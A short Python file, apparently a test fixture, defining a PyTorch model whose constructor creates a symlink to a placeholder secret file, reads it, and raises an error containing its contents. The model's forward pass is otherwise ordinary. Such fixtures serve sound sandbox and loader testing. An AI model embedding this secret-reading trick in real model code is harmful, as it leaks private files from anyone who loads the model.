"""Makes a link in its own folder that leads to a secret, and reads that."""

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        os.symlink("@SECRET_FILE@", "here")
        raise ValueError(open("here").read())
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
